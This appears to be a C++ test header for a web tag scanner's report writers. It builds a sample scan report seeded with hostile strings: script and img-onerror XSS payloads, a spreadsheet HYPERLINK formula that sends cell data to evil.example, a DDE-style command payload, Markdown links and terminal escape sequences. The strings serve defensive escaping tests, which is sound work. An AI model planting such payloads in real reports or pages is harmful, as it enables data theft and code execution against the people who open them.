// Rendering helpers and a hand-built ScanReport for the report writer tests: two pages, one of them
// failed, tags, vendors, page and site findings, and hostile strings (XSS, CSV formulas, Markdown
// injection, terminal escapes, invalid UTF-8) wherever a crawled page controls the text.
#pragma once

#include <catch2/catch.hpp>

#include <sstream>
#include <string>

#include "model/analysis.h"
#include "reports/report.h"

namespace tw::test {

inline std::string render(ReportFormat format, const ScanReport& report,
                          ReportOptions options = {}) {
  std::ostringstream out;
  REQUIRE(write_report(format, report, options, out).ok());
  return out.str();
}

inline int count_of(const std::string& text, const std::string& needle) {
  int n = 0;
  for (std::size_t at = text.find(needle); at != std::string::npos;
       at = text.find(needle, at + 1)) {
    ++n;
  }
  return n;
}

inline const std::string kScriptPayload =
    "\"><script>window.__pwned=1;document.title='PWNED'</script>";
inline const std::string kImgPayload = "<img src=x onerror=\"window.__pwned=2\">";
inline const std::string kFormulaPayload = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"open\")";
inline const std::string kMarkdownPayload =
    "[click](https://evil.example/) ![i](https://evil.example/i.png) <b>x</b> https://evil.example "
    "mail@evil.example";
inline const std::string kTerminalPayload =
    "\x1b[2J\x1b]0;owned\x07\xc2\x9b"
    "31m \xe2\x80\xae";

inline ScanReport hostile_sample_report() {
  ScanReport report;
  report.scan.id = 7;
  report.scan.targets = {"https://shop.example/"};
  report.scan.started = "2026-11-25T10:00:00Z";
  report.scan.finished = "2026-11-25T10:00:05Z";
  report.scan.status = ScanStatus::complete;
  report.scan.tool_version = "0.1.0";

  PageAnalysis home;
  home.page.requested_url = "https://shop.example/";
  home.page.final_url = "https://shop.example/?q=" + kScriptPayload;
  home.page.status = 200;
  home.page.content_type = "text/html";
  home.title = kImgPayload + kTerminalPayload;
  Tag gtm;
  gtm.kind = TagKind::script;
  gtm.url = "https://www.googletagmanager.com/gtm.js?id=GTM-ABC123";
  gtm.host = "www.googletagmanager.com";
  gtm.domain = "googletagmanager.com";
  gtm.vendor = "Google Tag Manager";
  gtm.category = "tag-manager";
  gtm.ids = {"GTM-ABC123"};
  gtm.line = 12;
  gtm.column = 5;
  gtm.in_head = true;
  gtm.attributes = {{"async", ""}, {"data-x", kScriptPayload}};
  Tag evil;
  evil.kind = TagKind::pixel;
  evil.url = "https://evil.example/p.gif?u=" + kFormulaPayload;
  evil.host = "evil.example";
  evil.domain = "evil.example";
  evil.vendor = "+cmd|' /C calc'!A0";
  evil.category = "advertising";
  evil.line = 40;
  evil.column = 3;
  home.tags = {gtm, evil};

  Finding unsanctioned;
  unsanctioned.rule = "TW100";
  unsanctioned.severity = Severity::high;
  unsanctioned.page = home.page.final_url;
  unsanctioned.vendor = evil.vendor;
  unsanctioned.host = evil.host;
  unsanctioned.tag_url = evil.url;
  unsanctioned.line = 40;
  unsanctioned.column = 3;
  unsanctioned.message = "Unsanctioned vendor " + kMarkdownPayload + kTerminalPayload;
  unsanctioned.evidence = kFormulaPayload;
  unsanctioned.fingerprint = "fp-unsanctioned";
  Finding blocking;
  blocking.rule = "TW400";
  blocking.severity = Severity::low;
  blocking.page = home.page.final_url;
  blocking.vendor = "Google Tag Manager";
  blocking.host = gtm.host;
  blocking.tag_url = gtm.url;
  blocking.line = 12;
  blocking.column = 5;
  blocking.message = "Render-blocking script @SUM(1+1)";
  blocking.evidence = "<script src=...>";
  blocking.fingerprint = "fp-blocking";
  home.findings = {unsanctioned, blocking};

  PageAnalysis broken;
  broken.page.requested_url = "https://shop.example/broken";
  broken.page.final_url = broken.page.requested_url;
  broken.page.error = PageError::timeout;
  broken.page.error_detail = "timeout after 30 s";
  broken.page.depth = 1;

  report.pages = {home, broken};

  VendorSummary tag_manager{"Google Tag Manager", "tag-manager", {gtm.host}, {"GTM-ABC123"}, 1,
                            "sanctioned",         "Web team"};
  VendorSummary tracker{evil.vendor, "advertising",  {evil.host},  {kFormulaPayload},
                        1,           "unsanctioned", "@SUM(A1:A9)"};
  VendorSummary second_ads{
      "Ads Two " + kScriptPayload, "advertising", {"ads.two.example"}, {}, 1, "unreviewed", ""};
  report.vendors = {tag_manager, tracker, second_ads};

  Finding overlap;
  overlap.rule = "TW-UNKNOWN-RULE";
  overlap.severity = Severity::medium;
  overlap.message = "Two advertising vendors " + kScriptPayload;
  overlap.fingerprint = "fp-overlap";
  report.site_findings = {overlap};
  return report;
}

}  // namespace tw::test
